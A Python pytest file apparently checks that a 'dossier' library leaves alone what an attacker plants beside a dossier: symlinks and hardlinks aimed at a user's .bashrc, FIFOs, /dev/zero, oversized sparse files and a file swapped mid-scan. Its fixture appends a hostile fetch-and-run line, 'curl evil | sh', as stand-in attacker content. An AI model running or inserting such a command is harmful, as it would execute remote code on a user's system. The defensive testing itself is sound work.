"""What a stranger put beside a dossier: links, FIFOs, devices, names of another file. None of it is touched."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from kit.dossier import journal, pieces, sidecar
from kit.dossier.backup import backup, check_is_dossier, check_readable, list_backups, restore
from kit.dossier.clean import erase
from kit.dossier.copies import describe
from kit.dossier.dossier import Dossier
from kit.dossier.merge import merge_files
from kit.dossier.sidecar import aside_of, lock_of, sibling_of
from kit.errors import SaveRefused
from tests.unit.dossier.dossier_events import WRITERS, event, write

ROOT = Path(__file__).resolve().parents[3]
RUBBISH = b"curl evil | sh\n"

Place = Callable[[Path], Path]
PLACES: dict[str, Place] = {
    "lock": lock_of,
    "aside": aside_of,
    "sibling": lambda path: sibling_of(path, WRITERS[1]),
    "copy": lambda path: path.with_name("ville (copie).kitess"),
    "conflict": lambda path: path.with_name("ville.sync-conflict-20260101-101010-ABCDEFG.kitess"),
}
WORKS: dict[str, Callable[[Path, Path], object]] = {
    "open": lambda path, _: Dossier.open(path).close(),
    "erase": lambda path, away: erase(path, backups=away / "copies"),
    "backup": lambda path, away: backup(path, away / "copies"),
    "merge": lambda path, away: merge_files(path, write(away / "autre.kitess", event(2)), backups=away / "copies"),
}


@pytest.fixture
def away(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder of the user's, far from the dossier."""
    return tmp_path_factory.mktemp("ailleurs")


def hostile(path: Path) -> Path:
    """Write a dossier that holds a line of the attacker's."""
    write(path, event(1))
    with path.open("ab") as file:
        file.write(RUBBISH)
    return path


def work_on(path: Path, away: Path) -> None:
    """Do all that one does with a dossier; where it is refused, it is refused by the error that says so."""
    for work in WORKS.values():
        try:
            work(path, away)
        except SaveRefused:
            continue


@pytest.mark.parametrize("place", PLACES)
def test_a_link_beside_a_dossier_is_neither_followed_nor_written_nor_removed(
    path: Path, away: Path, place: str
) -> None:
    target = away / ".bashrc"
    target.write_bytes(b"")
    before = target.stat().st_mtime_ns
    link = PLACES[place](hostile(path))
    link.symlink_to(target)
    work_on(path, away)
    assert (target.read_bytes(), target.stat().st_mtime_ns) == (b"", before)
    assert link.is_symlink()
    with Dossier.open(path, write=False) as seen:
        assert seen.left_alone == (link.name,)


@pytest.mark.parametrize("place", PLACES)
def test_a_link_to_a_dossier_of_the_same_id_brings_nothing_in(path: Path, away: Path, place: str) -> None:
    theirs = write(away / "ville.kitess", event(1, "en-cours", w=WRITERS[1], on="action:b"))
    before = theirs.read_bytes()
    PLACES[place](write(path, event(1))).symlink_to(theirs)
    work_on(path, away)
    assert theirs.read_bytes() == before
    with Dossier.open(path, write=False) as seen:
        assert seen.value("action:b", "status") is None


@pytest.mark.parametrize("place", ["lock", "aside"])
def test_another_name_of_a_file_elsewhere_is_not_written(path: Path, away: Path, place: str) -> None:
    target = away / ".bashrc"
    target.write_bytes(b"export A=1\n")
    link = PLACES[place](hostile(path))
    link.hardlink_to(target)
    work_on(path, away)
    assert target.read_bytes() == b"export A=1\n"
    with Dossier.open(path, write=False) as seen:
        assert seen.left_alone == (link.name,)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("kind", ["fifo", "zero", "folder", "nowhere"])
def test_what_would_hang_is_not_opened(path: Path, place: str, kind: str) -> None:
    odd = PLACES[place](hostile(path))
    match kind:
        case "fifo":
            os.mkfifo(odd)
        case "zero":
            odd.symlink_to("/dev/zero")
        case "folder":
            odd.mkdir()
        case _:
            odd.symlink_to(path.parent / "rien")
    code = (
        "import sys\nfrom pathlib import Path\nfrom kit.dossier.dossier import Dossier\n"
        "with Dossier.open(Path(sys.argv[1])) as one:\n"
        "    one.refresh()\n    print(*one.left_alone, one.status('a').value, sep='|')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(path)], cwd=ROOT, capture_output=True, text=True, timeout=20, check=True
    )
    assert done.stdout == f"{odd.name}|fait\n"
    assert os.path.lexists(odd) and not (path.parent / "rien").exists()


def test_a_lock_that_is_no_file_is_said_and_nothing_is_written(path: Path, away: Path) -> None:
    lock_of(write(path, event(1))).symlink_to(away / "rien")
    with Dossier.open(path) as opened:
        assert opened.read_only
        with pytest.raises(SaveRefused):
            opened.record("action:a", "status", "en-cours")


def test_what_takes_a_sibling_s_place_while_it_is_looked_at_is_not_touched(
    path: Path, away: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = away / "liste.kitess"
    write(target, event(1, w=WRITERS[1], on="action:b"))
    before = target.read_bytes()
    sibling = write(sibling_of(write(path, event(1)), WRITERS[1]), event(1, w=WRITERS[1]))
    judge = sidecar.scan

    def swap(*args: object) -> object:
        found = judge(path)
        sibling.unlink(missing_ok=True)
        sibling.symlink_to(target)
        return found

    monkeypatch.setattr(sidecar, "scan", swap)
    with Dossier.open(path) as opened:
        assert opened.value("action:b", "status") is None
    assert target.read_bytes() == before


def test_a_folder_of_pieces_that_is_a_link_keeps_its_files(path: Path, away: Path) -> None:
    (away / "photo.jpg").write_bytes(b"photo")
    pieces.folder_of(write(path, event(1))).symlink_to(away)
    erase(path, backups=path.parent / "copies")
    assert (away / "photo.jpg").read_bytes() == b"photo"
    with Dossier.open(path, write=False) as seen:
        assert seen.left_alone == (pieces.folder_of(path).name,)


def test_links_among_the_pieces_are_left_alone(path: Path, away: Path) -> None:
    (away / "photo.jpg").write_bytes(b"photo")
    folder = pieces.folder_of(write(path, event(1)))
    (folder / "sous").mkdir(parents=True)
    (folder / "lien.jpg").symlink_to(away / "photo.jpg")
    (folder / "vieux.pdf").write_bytes(b"%PDF")
    erase(path, backups=path.parent / "copies")
    assert sorted(entry.name for entry in folder.iterdir()) == ["lien.jpg", "sous"]


def test_what_stands_beside_is_read_up_to_a_limit(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    copy = write(PLACES["copy"](write(path, event(1))), event(1, w=WRITERS[1], on="action:b"))
    monkeypatch.setattr(sidecar, "SIZE_LIMIT", copy.stat().st_size)
    with Dossier.open(path, write=False) as seen:
        assert (seen.left_alone, seen.value("action:b", "status")) == ((), "fait")
    monkeypatch.setattr(sidecar, "SIZE_LIMIT", copy.stat().st_size - 1)
    with Dossier.open(path, write=False) as seen:
        assert (seen.left_alone, seen.value("action:b", "status")) == ((copy.name,), None)


def test_a_huge_hollow_file_beside_is_not_read(path: Path) -> None:
    copy = PLACES["copy"](write(path, event(1)))
    with copy.open("wb") as file:
        file.truncate(1 << 40)
    with Dossier.open(path) as opened:
        assert opened.left_alone == (copy.name,)


def test_a_dossier_reached_through_the_user_s_link_is_where_it_really_is(path: Path, away: Path) -> None:
    real = write(away / "vrai.kitess", event(1))
    write(sibling_of(real, WRITERS[1]), event(1, w=WRITERS[1], on="action:b"))
    path.symlink_to(real)
    with Dossier.open(path) as opened:
        assert opened.path == real
        assert opened.value("action:b", "status") == "fait"
        opened.record("action:c", "note", "noté")
        assert lock_of(real).exists() and not lock_of(path).exists()
    copies = away / "copies"
    check_readable(path, copies)
    check_is_dossier(path)
    backup(path, copies)
    assert len(describe(path, copies)[0].differences) == 0
    merge_files(path, write(away / "autre.kitess", event(3, on="action:d")), backups=copies)
    assert len(journal.read(real).events) == 4
    assert erase(path, backups=copies) > 0
    assert b"not\xc3\xa9" not in real.read_bytes()
    restore(path, list_backups(path, copies)[0].path.name, copies)
    assert path.is_symlink()
